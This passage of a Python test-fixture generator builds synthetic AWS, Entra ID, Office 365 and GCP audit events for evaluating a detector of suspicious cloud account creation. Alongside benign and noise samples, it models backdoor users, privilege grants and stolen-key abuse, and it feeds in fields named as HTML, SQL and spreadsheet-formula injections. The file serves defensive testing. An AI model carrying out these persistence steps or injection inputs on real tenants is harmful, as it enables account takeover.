            b,
            "follow-on-entra-consent",
            "follow-on",
            "Admin consent granted to the new application",
            megan,
            [_ref(consent, "privilege", False, True, "service_principal", app_name)],
            follows=aadint_sp.key,
            chain_kind=CHAIN_PRIVILEGE_GRANT,
        )
    )
    chains.append(ChainSpec(CHAIN_ENTRA_APP_SP_CREDENTIAL, [aadint_sp.key], aadint_sp.events[:]))
    chains.append(
        ChainSpec(
            CHAIN_PRIVILEGE_GRANT,
            [aadint_sp.key, "follow-on-entra-app-role-assignment", "follow-on-entra-consent"],
            [aadint_sp.events[1], items[-2].events[0], items[-1].events[0]],
        )
    )
    offenses.append(
        _account_offense(
            "Service principal with credentials and directory permissions created by a user",
            [*aadint_sp.events, items[-2].events[0], items[-1].events[0]],
            [aadint_sp.key, "follow-on-entra-app-role-assignment", "follow-on-entra-consent"],
            megan,
            (8, 8, 8, 9),
        )
    )

    # -- seed test 3: AWS IAM user followed by an access key, then AdministratorAccess (follow-on)
    ops = b.assumed_role("OpsAdminRole", "jdoe-cli")
    ops_ip = "203.0.113.77"
    t = b.at(12)
    new_user = "df00tech-atomic-test-user"
    c_user = b.create_user(t, ops, ops_ip, UA_AWS_CLI.format(command="iam.create-user"), new_user)
    c_key = b.create_access_key(
        t + 6_000, ops, ops_ip, UA_AWS_CLI.format(command="iam.create-access-key"), new_user
    )
    c_policy = b.attach_user_policy(
        t + 120_000, ops, ops_ip, UA_AWS_CLI.format(command="iam.attach-user-policy"), new_user
    )
    aws_user = _aws_item(
        "seed-test-3-aws-user-access-key",
        "attack",
        "AWS IAM user created, then an access key for it",
        ops,
        [
            _ref(c_user, "creation", True, False, "user", new_user),
            _ref(c_key, "credential", True, False, "access_key", new_user),
        ],
        is_service_account=False,
        chain_kind=CHAIN_AWS_USER_CREDENTIAL,
        source="seed Testing Methodology test 3",
    )
    items.append(aws_user)
    items.append(
        _aws_item(
            "follow-on-aws-admin-policy",
            "follow-on",
            "AdministratorAccess attached to the new IAM user",
            ops,
            [_ref(c_policy, "privilege", False, False, "user", new_user)],
            follows=aws_user.key,
            chain_kind=CHAIN_PRIVILEGE_GRANT,
        )
    )
    chains.append(ChainSpec(CHAIN_AWS_USER_CREDENTIAL, [aws_user.key], aws_user.events[:]))
    chains.append(
        ChainSpec(
            CHAIN_PRIVILEGE_GRANT,
            [aws_user.key, "follow-on-aws-admin-policy"],
            [aws_user.events[0], items[-1].events[0]],
        )
    )
    offenses.append(
        _account_offense(
            "IAM user created with an access key and AdministratorAccess",
            [*aws_user.events, items[-1].events[0]],
            [aws_user.key, "follow-on-aws-admin-policy"],
            "OpsAdminRole/jdoe-cli",
            (8, 8, 8, 9),
        )
    )

    # -- seed test 4: AADInternals PowerShell user, then Global Administrator (follow-on)
    lidia, lidia_ip = upn("lidia.holloway"), "198.51.100.61"
    t = b.at(8)
    backdoor = upn("aadint-backdoor")
    e_user = b.entra_add_user(t, lidia, lidia_ip, backdoor, "AADInt Backdoor", user_agent=UA_POWERSHELL)
    e_role = b.entra_global_admin_grant(
        t + 180_000, lidia, lidia_ip, backdoor, "AADInt Backdoor", UA_POWERSHELL
    )
    aadint_user = _entra_user_item(
        b,
        "seed-test-4-aadinternals-user",
        "attack",
        "Azure AD user created with AADInternals (as a user)",
        lidia,
        [_ref(e_user, "creation", True, False, "user", backdoor)],
        is_service_account=False,
        source="seed Testing Methodology test 4",
    )
    items.append(aadint_user)
    items.append(
        _entra_user_item(
            b,
            "follow-on-entra-global-admin",
            "follow-on",
            "New user added to Global Administrator",
            lidia,
            [_ref(e_role, "privilege", False, False, "user", backdoor)],
            follows=aadint_user.key,
            chain_kind=CHAIN_PRIVILEGE_GRANT,
            source="Atomic T1098.003",
        )
    )
    chains.append(
        ChainSpec(
            CHAIN_PRIVILEGE_GRANT,
            [aadint_user.key, "follow-on-entra-global-admin"],
            [aadint_user.events[0], items[-1].events[0]],
        )
    )
    offenses.append(
        _account_offense(
            "Cloud account created and made Global Administrator",
            [aadint_user.events[0], items[-1].events[0]],
            [aadint_user.key, "follow-on-entra-global-admin"],
            lidia,
            (9, 9, 8, 9),
        )
    )

    # -- Atomic Red Team T1136.003 #1: aws iam create-user --user-name atomicredteam (+ cleanup)
    operator = b.iam_user("redteam-operator")
    t = b.at(6)
    rt_ip = "192.0.2.15"
    a1 = b.create_user(t, operator, rt_ip, UA_AWS_CLI.format(command="iam.create-user"), "atomicredteam")
    a1_cleanup = b.cloudtrail(
        t + 120_000,
        "DeleteUser",
        operator,
        rt_ip,
        UA_AWS_CLI.format(command="iam.delete-user"),
        request={"userName": "atomicredteam"},
    )
    atomic1 = _aws_item(
        "atomic-1-aws-create-user",
        "attack",
        "Atomic T1136.003 #1: AWS - Create a new IAM user",
        operator,
        [_ref(a1, "creation", True, False, "user", "atomicredteam"), _ref(a1_cleanup, "cleanup", False)],
        is_service_account=False,
        source="Atomic Red Team T1136.003 #1 (8d1c2368-b503-40c9-9057-8e42f21c58ad)",
    )
    items.append(atomic1)
    offenses.append(
        _account_offense(
            "IAM user created by a red-team operator (exercise, closed)",
            [atomic1.events[0]],
            [atomic1.key],
            "redteam-operator",
            (5, 6, 8, 5),
            status="CLOSED",
            closed=True,
        )
    )

    # -- Atomic #2: AzureAD New-AzureADUser, seen in Entra audit AND in the Office 365 audit (twin)
    rt_upn, rt_upn_ip = upn("redteam.operator"), "192.0.2.16"
    t = b.at(5)
    atomic_upn = upn("atomicredteam")
    azuread_module = {"user_agent": UA_AAD_GRAPH, "app_id": APPID_AAD_POWERSHELL}
    a2 = b.entra_add_user(t, rt_upn, rt_upn_ip, atomic_upn, "atomicredteam", **azuread_module)
    a2_twin = b.o365_add_user(t + 2_000, rt_upn, atomic_upn, "atomicredteam", rt_upn_ip)
    a2_cleanup = b.entra_delete_user(
        t + 240_000, rt_upn, rt_upn_ip, atomic_upn, "atomicredteam", **azuread_module
    )
    creation = _ref(a2, "creation", True, False, "user", atomic_upn)
    items.append(
        _entra_user_item(
            b,
            "atomic-2-azuread-new-user",
            "attack",
            "Atomic T1136.003 #2: Azure AD - Create a new user (AzureAD module)",
            rt_upn,
            [
                creation,
                EventRef(a2_twin, "twin", False, False, "user", atomic_upn, twin_of=creation),
                _ref(a2_cleanup, "cleanup", False),
            ],
            is_service_account=False,
            also_seen_in=[OFFICE_365],
            source="Atomic Red Team T1136.003 #2 (e62d23ef-3153-4837-8625-fa4a3829134d)",
            notes="one creation in two feeds: expect one detection with also_seen_in Office 365 (rule d)",
        )
    )

    # -- Atomic #3: az ad user create
    t = b.at(4)
    cli_upn = upn("atomicredteam.cli")
    a3 = b.entra_add_user(t, rt_upn, rt_upn_ip, cli_upn, "atomicredteam", **cli)
    a3_cleanup = b.entra_delete_user(t + 150_000, rt_upn, rt_upn_ip, cli_upn, "atomicredteam", **cli)
    items.append(
        _entra_user_item(
            b,
            "atomic-3-az-ad-user-create",
            "attack",
            "Atomic T1136.003 #3: Azure AD - Create a new user via Azure CLI",
            rt_upn,
            [_ref(a3, "creation", True, False, "user", cli_upn), _ref(a3_cleanup, "cleanup", False)],
            is_service_account=False,
            source="Atomic Red Team T1136.003 #3 (228c7498-be31-48e9-83b7-9cb906504ec8)",
        )
    )

    # -- GCP: service account and a key for it, by an outside contractor account
    mallory, mallory_ip = "mallory.contractor@acme-partner.example", "192.0.2.140"
    t = b.at(10)
    sa_email = f"backup-exporter@{GCP_PROJECT}.iam.gserviceaccount.com"
    sa_unique = str(b.rng.randrange(10**20, 10**21))
    g_sa = b.gcp(
        t,
        "google.iam.admin.v1.CreateServiceAccount",
        mallory,
        mallory_ip,
        UA_GCLOUD.format(command="create", invocation=b.uuid()),
        permission="iam.serviceAccounts.create",
        request={
            "@type": "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountRequest",
            "account_id": "backup-exporter",
            "name": f"projects/{GCP_PROJECT}",
            "service_account": {"display_name": "Backup exporter"},
        },
        response={
            "@type": "type.googleapis.com/google.iam.admin.v1.ServiceAccount",
            "email": sa_email,
            "name": f"projects/{GCP_PROJECT}/serviceAccounts/{sa_email}",
            "project_id": GCP_PROJECT,
            "unique_id": sa_unique,
            "display_name": "Backup exporter",
            "etag": "MDEwMjE5MjA=",
        },
    )
    key_name = f"projects/{GCP_PROJECT}/serviceAccounts/{sa_email}/keys/{b.hexstr(40)}"
    g_key = b.gcp(
        t + 35_000,
        "google.iam.admin.v1.CreateServiceAccountKey",
        mallory,
        mallory_ip,
        UA_GCLOUD.format(command="keys.create", invocation=b.uuid()),
        resource_name=f"projects/-/serviceAccounts/{sa_unique}",
        permission="iam.serviceAccountKeys.create",
        request={
            "@type": "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest",
            "name": f"projects/-/serviceAccounts/{sa_unique}",
            "private_key_type": 2,
        },
        response={
            "@type": "type.googleapis.com/google.iam.admin.v1.ServiceAccountKey",
            "name": key_name,
            "key_algorithm": 2,
            "key_origin": 2,
            "key_type": 1,
        },
    )
    gcp_item = Item(
        "gcp-service-account-and-key",
        "attack",
        "GCP service account created, then a key for it",
        GCP,
        mallory,
        mallory,
        "user",
        [
            _ref(g_sa, "creation", True, True, "service_account", sa_email),
            _ref(g_key, "credential", True, True, "service_account_key", sa_email),
        ],
        is_service_account=True,
        notes="no chain rule covers GCP; both events are detections",
    )
    items.append(gcp_item)
    offenses.append(
        _account_offense(
            "Service account and key created by an external principal",
            gcp_item.events[:],
            [gcp_item.key],
            mallory,
            (7, 7, 8, 8),
        )
    )

    # -- AWS backdoor console user: stolen CI keys create a user and a login profile (chain b)
    ci = b.iam_user("ci-deployer")
    ci_ip = "192.0.2.66"
    t = b.at(14)
    backdoor_user = "support-helpdesk2"
    l_user = b.create_user(t, ci, ci_ip, UA_BOTO3_SCRIPT, backdoor_user)
    l_profile = b.create_login_profile(t + 75_000, ci, ci_ip, UA_BOTO3_SCRIPT, backdoor_user)
    login_item = _aws_item(
        "aws-user-login-profile",
        "attack",
        "IAM user created with stolen CI keys, then a console password",
        ci,
        [
            _ref(l_user, "creation", True, False, "user", backdoor_user),
            _ref(l_profile, "credential", True, False, "login_profile", backdoor_user),
        ],
        is_service_account=False,
        chain_kind=CHAIN_AWS_USER_CREDENTIAL,
    )
    items.append(login_item)
    chains.append(ChainSpec(CHAIN_AWS_USER_CREDENTIAL, [login_item.key], login_item.events[:]))
    offenses.append(
        _account_offense(
            "IAM user created with a console login profile from an unusual address",
            login_item.events[:],
            [login_item.key],
            "ci-deployer",
            (7, 7, 8, 8),
        )
    )

    # -- hostile values: attacker-controlled names that must render as text and stay out of formulas
    t = b.at(7)
    xss_upn = f"{HOSTILE_XSS}@{TENANT_DOMAIN}"
    h1 = b.entra_add_user(t, megan, megan_ip, xss_upn, HOSTILE_XSS, user_agent=UA_POWERSHELL)
    items.append(
        _entra_user_item(
            b,
            "hostile-entra-user-html",
            "hostile",
            "Entra user whose name is an HTML injection",
            megan,
            [_ref(h1, "creation", True, False, "user", xss_upn)],
            is_service_account=False,
            hostile_fields={"target_account": xss_upn, "target_display_name": HOSTILE_XSS},
        )
    )
    t = b.at(9)
    h2 = b.create_user(t, ci, ci_ip, UA_BOTO3_SCRIPT, HOSTILE_SQL)
    items.append(
        _aws_item(
            "hostile-aws-user-sql",
            "hostile",
            "IAM user whose name is an SQL/AQL injection",
            ci,
            [_ref(h2, "creation", True, False, "user", HOSTILE_SQL)],
            is_service_account=False,
            hostile_fields={"target_account": HOSTILE_SQL},
        )
    )
    t = b.at(3)
    csv_target = {
        "id": b.object_id(HOSTILE_CSV),
        "displayName": HOSTILE_CSV,
        "type": "ServicePrincipal",
        "modifiedProperties": [
            {"displayName": "AppId", "oldValue": None, "newValue": json.dumps([b.uuid()])}
        ],
    }
    h3 = b.entra_audit(
        t,
        "Add service principal",
        category="ApplicationManagement",
        initiated_by=b.user_initiator(megan, megan_ip),
        targets=[csv_target],
        user_agent=UA_POWERSHELL,
    )
    items.append(
        _entra_user_item(
            b,
            "hostile-entra-sp-formula",
            "hostile",
            "Service principal whose name is a spreadsheet formula",
            megan,
            [_ref(h3, "creation", True, True, "service_principal", HOSTILE_CSV)],
            is_service_account=True,
            hostile_fields={"target_account": HOSTILE_CSV},
        )
    )

    items.extend(_benign_items(b, chains))
    items.extend(_noise_samples(b, offenses))
    return items, offenses, chains


def _benign_items(b: _Builder, chains: list[ChainSpec]) -> list[Item]:
    items: list[Item] = []

    def upn(name: str) -> str:
        return f"{name}@{TENANT_DOMAIN}"

    # Terraform pipeline role: three runs (user + key, two roles).
    tf_events = []
    for hours, what in ((21, "user"), (13, "role"), (2, "role2")):
        session = f"gha-run-{b.rng.randrange(4000, 9000)}"
        identity = b.assumed_role("TerraformDeployRole", session)
        ip = f"10.20.4.{b.rng.randrange(10, 250)}"
        t = b.at(hours)
        if what == "user":
            u = b.create_user(t, identity, ip, UA_TERRAFORM, "svc-reporting")
            k = b.create_access_key(t + 3_000, identity, ip, UA_TERRAFORM, "svc-reporting")
            tf_events += [
                _ref(u, "creation", True, False, "user", "svc-reporting"),
                _ref(k, "credential", True, False, "access_key", "svc-reporting"),
            ]
        else:
            name = "app-lambda-exec" if what == "role" else "etl-glue-job"
            service = "lambda.amazonaws.com" if what == "role" else "glue.amazonaws.com"
            r = b.create_role(t, identity, ip, UA_TERRAFORM, name, service)
            tf_events.append(_ref(r, "creation", True, True, "iam_role", name))
    tf_arn = f"arn:aws:iam::{AWS_ACCOUNT}:role/TerraformDeployRole"
    items.append(
        Item(
            "benign-terraform-pipeline",
            "benign",
            "Terraform pipeline role creating IAM users and roles",
            AWS,
            "TerraformDeployRole",
            tf_arn,
            "AssumedRole",
            tf_events,
            chain_kind=CHAIN_AWS_USER_CREDENTIAL,
            allowlist={
                "actor_id": tf_arn,
                "source_cidr": "10.20.0.0/16",
                "user_agent_regex": r"HashiCorp/1\.0 Terraform/",
                "justification": "GitHub Actions Terraform pipeline (infra-live repo)",
            },
        )
    )
    chains.append(ChainSpec(CHAIN_AWS_USER_CREDENTIAL, ["benign-terraform-pipeline"], tf_events[:2]))

    ansible = b.assumed_role("AnsibleProvisioner", "ansible-awx-01")
    t = b.at(17)
    a = b.create_user(t, ansible, "10.30.8.15", UA_ANSIBLE, "deploy-bot-07")
    ansible_arn = ansible["sessionContext"]["sessionIssuer"]["arn"]
    items.append(
        _aws_item(
            "benign-ansible",
            "benign",
            "Ansible (amazon.aws) creating a deployment user",
            ansible,
            [_ref(a, "creation", True, False, "user", "deploy-bot-07")],
            is_service_account=False,
            allowlist={
                "actor_id": ansible_arn,
                "source_cidr": "10.30.8.0/24",
                "user_agent_regex": r"Ansible/2\.",
                "justification": "AWX job template 'iam-users'",
            },
        )
    )

    puppet = b.assumed_role("PuppetProvisioner", "puppet-agent-02")
    t = b.at(11)
    p = b.create_user(t, puppet, "10.40.2.9", UA_PUPPET, "svc-monitoring")
    puppet_arn = puppet["sessionContext"]["sessionIssuer"]["arn"]
    items.append(
        _aws_item(
            "benign-puppet",
            "benign",
            "Puppet creating a monitoring user",
            puppet,
            [_ref(p, "creation", True, False, "user", "svc-monitoring")],
            is_service_account=False,
            allowlist={
                "actor_id": puppet_arn,
                "source_cidr": "10.40.2.0/24",
                "user_agent_regex": None,
                "justification": "Puppet aws module",
            },
        )
    )

    cfn = b.assumed_role(
        "CloudFormationExecutionRole", "AWSCloudFormation", invoked_by="cloudformation.amazonaws.com"
    )
    t = b.at(15)
    stack_role = f"orders-stack-LambdaExecutionRole-{b.upper_id('', 12)}"
    r = b.create_role(
        t,
        cfn,
        "cloudformation.amazonaws.com",
        "cloudformation.amazonaws.com",
        stack_role,
        "lambda.amazonaws.com",
    )
    cfn_arn = cfn["sessionContext"]["sessionIssuer"]["arn"]
    items.append(
        _aws_item(
            "benign-cloudformation",
            "benign",
            "CloudFormation stack creating its Lambda execution role",
            cfn,
            [_ref(r, "creation", True, True, "iam_role", stack_role)],
            is_service_account=True,
            allowlist={
                "actor_id": cfn_arn,
                "invoked_by": "cloudformation.amazonaws.com",
                "source_cidr": None,
                "user_agent_regex": None,
                "justification": "CloudFormation stack role",
            },
        )
    )

    sso = b.assumed_role(
        "AWSReservedSSO_AdministratorAccess_3f2a9c1d7e5b4a60",
        "alice@corp.example",
        mfa=True,
        invoked_by="resource-explorer-2.amazonaws.com",
    )
    t = b.at(19)
    service = "resource-explorer-2.amazonaws.com"
    slr_arn = f"arn:aws:iam::{AWS_ACCOUNT}:role/aws-service-role/{service}/AWSServiceRoleForResourceExplorer"
    slr = b.cloudtrail(
        t,
        "CreateServiceLinkedRole",
        sso,
        service,
        service,
        request={"aWSServiceName": service},
        response={
            "role": {
                "path": f"/aws-service-role/{service}/",
                "roleName": "AWSServiceRoleForResourceExplorer",
                "roleId": b.aws_principal(slr_arn, "AROA"),
                "arn": slr_arn,
                "createDate": aws_create_date(t),
            }
        },
    )
    items.append(
        Item(
            "benign-service-linked-role",
            "benign",
            "Service-linked role created by AWS Resource Explorer",
            AWS,
            service,
            service,
            "AWSService",
            [_ref(slr, "creation", True, True, "service_linked_role", "AWSServiceRoleForResourceExplorer")],
            is_service_account=True,
            allowlist={
                "actor_id": service,
                "invoked_by": service,
                "source_cidr": None,
                "user_agent_regex": None,
                "justification": "AWS service creating its own service-linked role",
            },
        )
    )

    sync = upn(f"Sync_AADC01_{b.hexstr(12)}")
    sync_events = []
    for hours in (22, 14, 1.5):
        hire = (
            f"{b.rng.choice(['j', 'k', 'm', 's', 't'])}.{b.rng.choice(['smith', 'garcia', 'chen', 'okafor'])}"
        )
        hire_upn = f"{hire}{b.rng.randrange(10, 99)}@contoso.example"
        e = b.entra_add_user(b.at(hours), sync, "203.0.113.10", hire_upn, hire.title())
        sync_events.append(_ref(e, "creation", True, False, "user", hire_upn))
    items.append(
        _entra_user_item(
            b,
            "benign-entra-connect-sync",
            "benign",
            "Entra Connect sync account creating synchronized users",
            sync,
            sync_events,
            is_service_account=False,
            allowlist={
                "actor_id": b.object_id(sync),
                "source_cidr": "203.0.113.10/32",
                "user_agent_regex": None,
                "justification": "On-Premises Directory Synchronization Service Account (AADC01)",
            },
        )
    )

    workday = "Workday to Microsoft Entra ID User Provisioning"
    wd_events = []
    for hours in (18, 6.5):
        hire_upn = upn(f"new.hire{b.rng.randrange(100, 999)}")
        e = b.entra_audit(
            b.at(hours),
            "Add user",
            category="UserManagement",
            initiated_by=b.app_initiator(workday, APPID_SYNC_FABRIC),
            targets=[b.user_target(hire_upn, "New Hire")],
            logged_by="Account Provisioning",
        )
        wd_events.append(_ref(e, "creation", True, False, "user", hire_upn))
    items.append(
        Item(
            "benign-workday-inbound",
            "benign",
            "Workday inbound provisioning creating new hires",
            AZURE_AD,
            workday,
            b.object_id(workday),
            "servicePrincipal",
            wd_events,
            is_service_account=False,
            allowlist={
                "actor_id": b.object_id(workday),
                "source_cidr": None,
                "user_agent_regex": None,
                "justification": "HR inbound provisioning (servicePrincipalId, not display name)",
            },
        )
    )

    msi = "Managed Service Identity"
    t = b.at(12.5)
    vm = "vm-web-01"
    msi_target = {
        "id": b.object_id(vm),
        "displayName": vm,
        "type": "ServicePrincipal",
        "modifiedProperties": [],
    }
    m1 = b.entra_audit(
        t,
        "Add service principal",
        category="ApplicationManagement",
        initiated_by=b.app_initiator(msi),
        targets=[msi_target],
    )
    m2 = b.entra_audit(
        t + 2_000,
        "Add service principal credentials",
        category="ApplicationManagement",
        initiated_by=b.app_initiator(msi),
        targets=[
            {
                **msi_target,
                "modifiedProperties": [
                    {
                        "displayName": "KeyDescription",
                        "oldValue": "[]",
                        "newValue": json.dumps(
                            [
                                f"[KeyIdentifier={b.uuid()},KeyType=AsymmetricX509Cert,"
                                "KeyUsage=Verify,DisplayName=CN=vm-web-01]"
                            ]
                        ),
                    }
                ],
            }
        ],
    )
    items.append(
        Item(
            "benign-managed-identity",
            "benign",
            "Managed Service Identity creating a VM's identity and certificate",
            AZURE_AD,
            msi,
            b.object_id(msi),
            "servicePrincipal",
            [
                _ref(m1, "creation", True, True, "service_principal", vm),
                _ref(m2, "credential", True, True, "credential", vm),
            ],
            is_service_account=True,
            allowlist={
                "actor_id": b.object_id(msi),
                "source_cidr": None,
                "user_agent_regex": None,
                "justification": "Microsoft first-party initiator (default allowlist)",
            },
        )
    )

    bg, bg_ip = upn("breakglass-01"), "203.0.113.200"
    t = b.at(2.5)
    temp = upn("ir-temp-admin")
    g1 = b.entra_add_user(t, bg, bg_ip, temp, "IR Temp Admin", user_agent=UA_BROWSER)
    g2 = b.entra_global_admin_grant(t + 120_000, bg, bg_ip, temp, "IR Temp Admin", UA_BROWSER)
    bg_item = _entra_user_item(
        b,
        "benign-break-glass",
        "benign",
        "Break-glass account creating a temporary incident-response admin",
        bg,
        [_ref(g1, "creation", True, False, "user", temp), _ref(g2, "privilege", False, False, "user", temp)],
        is_service_account=False,
        chain_kind=CHAIN_PRIVILEGE_GRANT,
        allowlist={
            "actor_id": b.object_id(bg),
            "source_cidr": "203.0.113.200/32",
            "user_agent_regex": None,
            "max_ttl_hours": 24,
            "justification": "IR-4711 break-glass use, approved by the CISO",
        },
    )
    items.append(bg_item)
    chains.append(ChainSpec(CHAIN_PRIVILEGE_GRANT, [bg_item.key], bg_item.events[:]))
    return items


def _noise_samples(b: _Builder, offenses: list[OffenseSpec]) -> list[Item]:
    items: list[Item] = []
    intern = b.iam_user("intern-readonly")
    t = b.at(9.5)
    f1 = b.create_user(
        t,
        intern,
        "203.0.113.90",
        UA_AWS_CLI.format(command="iam.create-user"),
        "shadow-admin",
        error=(
            "AccessDenied",
            "User: arn:aws:iam::111122223333:user/intern-readonly is not "
            "authorized to perform: iam:CreateUser on resource: "
            "arn:aws:iam::111122223333:user/shadow-admin",
        ),
    )
    items.append(
        _aws_item(
            "noise-failed-aws-create-user",
            "noise-sample",
            "Failed CreateUser (AccessDenied): not a creation",
            intern,
            [_ref(f1, "failed", False)],
        )
    )

    pradeep, ip = f"pradeep.gupta@{TENANT_DOMAIN}", "203.0.113.91"
    t = b.at(7.5)
    target = f"shadow.admin@{TENANT_DOMAIN}"
    f2 = b.entra_add_user(
        t,
        pradeep,
        ip,
        target,
        "Shadow Admin",
        result="failure",
        result_reason="Insufficient privileges to complete the operation.",
        user_agent=UA_BROWSER,
    )
    f3 = b.o365(t + 2_000, "Add user.", pradeep, object_id=target, result="Failed", actor_ip=ip)
    items.append(
        _entra_user_item(
            b,
            "noise-failed-entra-add-user",
            "noise-sample",
            "Failed Add user (Entra and Office 365): not a creation",
            pradeep,
            [_ref(f2, "failed", False), _ref(f3, "failed", False)],
        )
    )

    t = b.at(11.5)
    f4 = b.gcp(
        t,
        "google.iam.admin.v1.CreateServiceAccount",
        "dev.sandbox@acme.example",
        "203.0.113.92",
        UA_GCLOUD.format(command="create", invocation=b.uuid()),
        permission="iam.serviceAccounts.create",
        denied=True,
        request={
            "@type": "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountRequest",
            "account_id": "sandbox-runner",
            "name": f"projects/{GCP_PROJECT}",
        },
    )
    items.append(
        Item(
            "noise-failed-gcp-service-account",
            "noise-sample",
            "Denied CreateServiceAccount: not a creation",
            GCP,
            "dev.sandbox@acme.example",
            "dev.sandbox@acme.example",
            "user",
            [_ref(f4, "failed", False)],
        )
    )

    t = b.at(5.5)
    group = b.entra_audit(
        t,
        "Add member to group",
        category="GroupManagement",
        initiated_by=b.user_initiator(f"adele.vance@{TENANT_DOMAIN}", "203.0.113.45"),
        targets=[
            b.user_target(f"diego.siciliani@{TENANT_DOMAIN}", "Diego Siciliani"),
            {"id": b.uuid(), "displayName": "Sales Team", "type": "Group"},
        ],
        operation_type="Assign",
    )
    items.append(
        _entra_user_item(
            b,
            "noise-group-membership",
            "noise-sample",
            "Add member to group: a look-alike name, not a role grant",
            f"adele.vance@{TENANT_DOMAIN}",
            [_ref(group, "look-alike", False)],
        )
    )

    # Password spray: failed sign-ins from one address; its offense holds no cloud-account events.
    t = b.at(1)
    spray_ip = "192.0.2.200"
    spray = []
    for i, name in enumerate(
        ["adele.vance", "megan.bowen", "lidia.holloway", "diego.siciliani", "alex.wilber", "pradeep.gupta"]
    ):
        e = b.entra_signin(t + i * 7_000, f"{name}@{TENANT_DOMAIN}", spray_ip, error_code=50126)
        spray.append(_ref(e, "sign-in-failure", False))
    items.append(
        Item(
            "noise-password-spray",
            "noise-sample",
            "Password spray: failed sign-ins from one address",
            AZURE_AD,
            spray_ip,
            spray_ip,
            "ip",
            spray,
        )
    )
    offenses.append(
        OffenseSpec(
            "Multiple Login Failures from the Same Source",
            spray,
            ["noise-password-spray"],
            OFFENSE_TYPE_SOURCE_IP,
            spray_ip,
            5,
            6,
            8,
            5,
            rules=LOGIN_FAILURE_RULES,
            has_cloud_account_events=False,
        )
    )
    return items


# --- unrelated events, in bulk ---------------------------------------------------------------------------

_CLOUDTRAIL_NOISE = (
    ("signin.amazonaws.com", "ConsoleLogin", False, 6),
    ("sts.amazonaws.com", "AssumeRole", False, 14),
    ("sts.amazonaws.com", "GetCallerIdentity", True, 10),
    ("ec2.amazonaws.com", "DescribeInstances", True, 16),
    ("ec2.amazonaws.com", "RunInstances", False, 2),
    ("ec2.amazonaws.com", "CreateTags", False, 3),
    ("s3.amazonaws.com", "ListBuckets", True, 8),
    ("s3.amazonaws.com", "GetBucketPolicy", True, 4),
    ("iam.amazonaws.com", "ListUsers", True, 5),
    ("iam.amazonaws.com", "GetUser", True, 5),
    ("iam.amazonaws.com", "GetRole", True, 4),
    ("iam.amazonaws.com", "ListRoles", True, 3),
    ("iam.amazonaws.com", "ListAccessKeys", True, 3),
    ("lambda.amazonaws.com", "ListFunctions20150331", True, 4),
    ("kms.amazonaws.com", "Decrypt", True, 8),
    ("cloudwatch.amazonaws.com", "PutMetricAlarm", False, 2),
    ("iam.amazonaws.com", "UpdateAccessKey", False, 1),
    ("iam.amazonaws.com", "DeleteUser", False, 1),
)
_ENTRA_AUDIT_NOISE = (
    ("Update user", "UserManagement", 8),
    ("Update application", "ApplicationManagement", 3),
    ("Add member to group", "GroupManagement", 4),
    ("Reset user password", "UserManagement", 2),
    ("Update service principal", "ApplicationManagement", 2),
    ("Delete user", "UserManagement", 1),
)
_O365_NOISE = (
    ("UserLoggedIn", "AzureActiveDirectory", 15, 10),
    ("UserLoginFailed", "AzureActiveDirectory", 15, 2),
    ("FileAccessed", "SharePoint", 6, 10),
    ("FileDownloaded", "OneDrive", 6, 3),
    ("MailItemsAccessed", "Exchange", 50, 8),
    ("Set-Mailbox", "Exchange", 1, 1),
    ("Update user.", "AzureActiveDirectory", 8, 3),
)
_GCP_NOISE = (
    ("storage.objects.get", "storage.googleapis.com", "data_access", 10),
    ("v1.compute.instances.insert", "compute.googleapis.com", "activity", 2),
    ("v1.compute.instances.start", "compute.googleapis.com", "activity", 2),
    ("google.iam.admin.v1.ListServiceAccounts", "iam.googleapis.com", "data_access", 4),
    ("google.iam.admin.v1.GetServiceAccount", "iam.googleapis.com", "data_access", 3),
)
_AZURE_NOISE = (
    ("MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION", "MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB-01", 4),
    ("MICROSOFT.COMPUTE/VIRTUALMACHINES/READ", "MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB-02", 6),
    ("MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", "MICROSOFT.STORAGE/STORAGEACCOUNTS/STPRODLOGS", 2),
    ("MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE", "MICROSOFT.RESOURCES/DEPLOYMENTS/WEB-RELEASE", 2),
)
_PEOPLE = (
    "adele.vance",
    "alex.wilber",
    "diego.siciliani",
    "grady.archie",
    "henrietta.mueller",
    "isaiah.langer",
    "johanna.lorenz",
    "joni.sherman",
    "lee.gu",
    "lynne.robbins",
    "megan.bowen",
    "miriam.graham",
    "nestor.wilke",
    "patti.fernandez",
    "pradeep.gupta",
)


def _weighted(options: tuple) -> list:
    return [option for option in options for _ in range(option[-1])]


def noise_records(builder: _Builder, count: int, span_ms: int = NOISE_SPAN_MS) -> Iterator[tuple[int, dict]]:
    """``count`` unrelated (time ms, record) pairs over the last ``span_ms``, oldest first, streamed (a
    million never sit in memory): sign-ins, reads, other services, failed attempts (failed creations
    included — they are not successful creations). Never a successful account creation, credential or
    privilege grant."""
    b = builder
    b.keep = False
    rng = b.rng
    ct_ops, entra_ops = _weighted(_CLOUDTRAIL_NOISE), _weighted(_ENTRA_AUDIT_NOISE)
    o365_ops, gcp_ops, azure_ops = _weighted(_O365_NOISE), _weighted(_GCP_NOISE), _weighted(_AZURE_NOISE)
    aws_identities = (
        [b.iam_user(name) for name in ("ci-deployer", "backup-agent", "grafana-reader")]
        + [
            b.assumed_role("AWSReservedSSO_ReadOnly_8c1d2e3f4a5b6c7d", f"{p}@corp.example")
            for p in _PEOPLE[:8]
        ]
        + [b.assumed_role("ec2-instance-role", f"i-0{b.hexstr(16)}") for _ in range(4)]
    )
    upns = [f"{p}@{TENANT_DOMAIN}" for p in _PEOPLE]
    gcp_principals = [f"{p}@acme.example" for p in _PEOPLE[:6]] + [
        f"dataflow-runner@{GCP_PROJECT}.iam.gserviceaccount.com"
    ]
    end = b.now_ms - 60_000
    offsets = sorted((rng.randrange(span_ms) for _ in range(count)), reverse=True)
    for offset in offsets:
        t = end - offset
        ip = (
            f"203.0.113.{rng.randrange(1, 255)}"
            if rng.random() < 0.7
            else f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        )
        roll = rng.random()
        if roll < 0.40:
            source, name, read_only, _w = rng.choice(ct_ops)
            identity = rng.choice(aws_identities)
            error = None
            if rng.random() < 0.01:
